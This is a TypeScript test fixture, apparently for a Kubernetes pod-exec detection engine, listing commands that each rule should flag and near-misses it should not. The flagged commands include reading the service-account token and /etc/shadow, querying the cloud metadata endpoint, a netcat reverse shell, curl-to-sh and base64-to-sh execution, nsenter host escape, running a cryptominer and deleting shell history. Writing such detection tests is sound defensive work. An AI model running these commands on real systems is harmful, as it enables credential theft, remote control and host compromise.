/** A command for each deed, and one that is like it; what commands do is tested with deeds.ts itself. */
import { type Edges, run } from '../facts.ts';

export const commandEdges: Readonly<Record<string, Edges>> = {
  'command-token': {
    hits: [run('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token')],
    misses: [
      run('cat', '/etc/hostname'),
      { ...run('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'), subresource: 'log' },
    ],
  },
  'command-credentials': {
    hits: [run('cat', '/etc/shadow')],
    misses: [run('cat', '/etc/passwd'), { ...run('cat', '/etc/shadow'), subresource: 'log' }],
  },
  'command-environment': {
    hits: [run('cat', '/proc/1/environ')],
    misses: [run('env'), { ...run('cat', '/proc/1/environ'), subresource: 'log' }],
  },
  'command-metadata': {
    hits: [run('curl', 'http://169.254.169.254/')],
    misses: [
      run('curl', 'http://localhost/'),
      { ...run('curl', 'http://169.254.169.254/'), subresource: 'log' },
    ],
  },
  'command-reverse-shell': {
    hits: [run('nc', '-e', 'sh', '198.51.100.7', '4')],
    misses: [
      run('nc', '-z', 'db', '5432'),
      { ...run('nc', '-e', 'sh', '198.51.100.7', '4'), subresource: 'log' },
    ],
  },
  'command-download-and-run': {
    hits: [run('sh', '-c', 'curl x | sh')],
    misses: [run('sh', '-c', 'curl x | jq .'), { ...run('sh', '-c', 'curl x | sh'), subresource: 'log' }],
  },
  'command-download': {
    hits: [run('curl', 'https://x.example.com/a')],
    misses: [
      run('curl', 'http://localhost/a'),
      { ...run('curl', 'https://x.example.com/a'), subresource: 'log' },
    ],
  },
  'command-copy-out': {
    hits: [run('tar', 'cf', '-', '/data')],
    misses: [run('tar', 'tf', 'x'), { ...run('tar', 'cf', '-', '/data'), subresource: 'log' }],
  },
  'command-copy-in': {
    hits: [run('tar', 'xmf', '-')],
    misses: [run('tar', 'tf', 'x'), { ...run('tar', 'xmf', '-'), subresource: 'log' }],
  },
  'command-host': {
    hits: [run('nsenter', '-t', '1', 'sh')],
    misses: [run('sh'), { ...run('nsenter', '-t', '1', 'sh'), subresource: 'log' }],
  },
  'command-miner': {
    hits: [run('./xmrig')],
    misses: [run('./shop'), { ...run('./xmrig'), subresource: 'log' }],
  },
  'command-traces': {
    hits: [run('rm', '/root/.bash_history')],
    misses: [run('rm', '/tmp/x'), { ...run('rm', '/root/.bash_history'), subresource: 'log' }],
  },
  'command-encoded': {
    hits: [run('sh', '-c', 'base64 -d x | sh')],
    misses: [run('base64', '-d', 'x'), { ...run('sh', '-c', 'base64 -d x | sh'), subresource: 'log' }],
  },
  'command-attack-tool': {
    hits: [run('nmap', 'x')],
    misses: [run('ping', 'x'), { ...run('nmap', 'x'), subresource: 'log' }],
  },
  'command-cluster-api': {
    hits: [run('kubectl', 'get', 'pods')],
    misses: [run('curl', 'http://db/'), { ...run('kubectl', 'get', 'pods'), subresource: 'log' }],
  },
};
